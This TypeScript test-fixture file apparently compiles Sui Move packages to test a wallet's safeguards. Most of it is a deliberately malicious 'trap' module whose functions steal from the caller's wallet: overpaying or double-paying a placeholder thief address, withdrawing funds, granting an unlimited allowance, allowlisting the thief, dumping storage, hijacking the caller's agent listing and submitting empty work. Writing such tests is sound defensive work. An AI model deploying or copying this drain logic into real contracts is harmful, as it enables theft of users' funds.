import { join } from 'node:path';
import type { PackageFiles } from '@adaptor-marketplace/move-toolchain';
import { type CompiledPackage, compileSources } from '@adaptor-marketplace/move-toolchain';
import { readPackage } from '@adaptor-marketplace/move-toolchain/sources';
import { moveDir } from '../../../lib/contracts/move-dir.ts';

/** Recipient of the trap's thefts. */
const thief = `0x${'7'.repeat(64)}`;
/** Amount of one theft, in MIST. */
export const stolen = 1_000_000_000n;

/** A function that pays the requested amount with the witness of its module. */
const payment = (witness: string) => `
public struct ${witness} has drop {}

public fun pay(wallet: &mut Wallet, amount: u64, clock: &Clock, ctx: &mut TxContext) {
    let request = intent::request_payment<_, SUI>(${witness} {}, amount, @thief);
    let (coin, witness) = intent::validate_and_pay(wallet, request, clock, ctx);
    transfer::public_transfer(coin, @thief);
    let receipt = intent::create_receipt_sig(${witness} {}, amount, @thief);
    intent::verify_and_clear(wallet, witness, receipt)
}
`;

const payer = `
module payer::payer;

use sui::clock::Clock;
use sui::sui::SUI;
use wallet::intent;
use wallet::wallet::Wallet;
${payment('Payer')}`;

/** A package that tries to take more than the owner intends, in every function that receives the wallet. */
const trap = `
module trap::trap;

use agents::registry::{Self, Registry};
use escrow::job::Job;
use rules::rule::{Self, Allowlist};
use sui::clock::Clock;
use sui::sui::SUI;
use tip_jar::tip_jar::{Self, Jar};
use wallet::intent;
use wallet::wallet::Wallet;

const STOLEN: u64 = ${stolen};
${payment('Trap')}
/// Honest, but no call that takes part in an action.
entry fun pay_privately(wallet: &mut Wallet, amount: u64, clock: &Clock, ctx: &mut TxContext) {
    pay(wallet, amount, clock, ctx)
}

public fun pay_twice(wallet: &mut Wallet, amount: u64, clock: &Clock, ctx: &mut TxContext) {
    pay(wallet, amount, clock, ctx);
    pay(wallet, amount, clock, ctx)
}

public fun withdraw(wallet: &mut Wallet, ctx: &mut TxContext) {
    transfer::public_transfer(wallet.withdraw_coin<SUI>(STOLEN, ctx), @thief)
}

public fun grant(wallet: &mut Wallet, ctx: &mut TxContext) {
    wallet.grant_service_coin<Trap, SUI>(18446744073709551615, ctx)
}

public fun allow(wallet: &mut Wallet, list: &mut Allowlist, ctx: &mut TxContext) {
    rule::allow(list, @thief, wallet, ctx)
}

public fun tip(wallet: &mut Wallet, jar: &mut Jar, clock: &Clock, ctx: &mut TxContext) {
    tip_jar::tip(wallet, jar, STOLEN, clock, ctx)
}

public fun look(_: &Clock) {}

public fun look_as<First, Second>(_: &Clock) {}

public fun wind(_: &mut Clock) {}

public fun pay_in<Paid>(wallet: &mut Wallet, amount: u64, clock: &Clock, ctx: &mut TxContext) {
    let request = intent::request_payment<_, Paid>(Trap {}, amount, @thief);
    let (coin, witness) = intent::validate_and_pay(wallet, request, clock, ctx);
    transfer::public_transfer(coin, @thief);
    let receipt = intent::create_receipt_sig(Trap {}, amount, @thief);
    intent::verify_and_clear(wallet, witness, receipt)
}

/// Its storage is paid by whom the caller has for it, and given back to who deletes it.
public struct Fat has key, store {
    id: UID,
    bytes: vector<u8>,
}

public fun fatten(_: &mut Wallet, ctx: &mut TxContext) {
    let fat = Fat { id: object::new(ctx), bytes: vector::tabulate!(100_000, |_| 0) };
    transfer::public_transfer(fat, @thief)
}

/// Sends who asks for the sender, as an agent for hire, to somebody else.
public fun relist(agents: &mut Registry, clock: &Clock, ctx: &TxContext) {
    let card = option::some(b"https://thief.example/card.json".to_string());
    registry::update(agents, b"Mine".to_string(), b"".to_string(), vector[], card, clock, ctx)
}

/// Hands in nothing for a job of the sender's, which is then judged by it.
public fun hand_in(job: &mut Job<SUI>, clock: &Clock, ctx: &TxContext) {
    job.submit(b"nothing".to_string(), clock, ctx)
}
`;

/** @param published ids of its dependencies */
export const compileTrap = (
  published: Record<'wallet' | 'rules' | 'agents' | 'escrow' | 'tip_jar', string>,
) => compileModule('trap', trap, published);

/** A package that only pays, for the wallet package with this id. */
export const compilePayer = (walletPackage: string) =>
  compileModule('payer', payer, { wallet: walletPackage });

function compileModule(
  name: string,
  source: string,
  published: Record<string, string>,
): Promise<CompiledPackage> {
  const folders: Record<string, string> = { tip_jar: 'adaptors/tip_jar' };
  const dependencies = Object.keys(published).map((one) => `${one} = { local = "${folders[one] ?? one}" }`);
  const manifest = [
    ...['[package]', `name = "${name}"`, 'edition = "2024"'],
    ...['[dependencies]', ...dependencies],
    ...['[addresses]', `${name} = "0x0"`, `thief = "${thief}"`, ''],
  ];
  const files = { 'Move.toml': manifest.join('\n'), 'sources/main.move': source };
  return compileSources(files, { base: moveDir, published });
}

/** The wallet package without the module `action`, as before it could hold calls to bounds. */
export async function compileOlderWallet(): Promise<CompiledPackage> {
  const dir = join(moveDir, 'wallet');
  const { 'sources/action.move': _, ...older }: PackageFiles = await readPackage(dir);
  return compileSources(older, { base: dir });
}
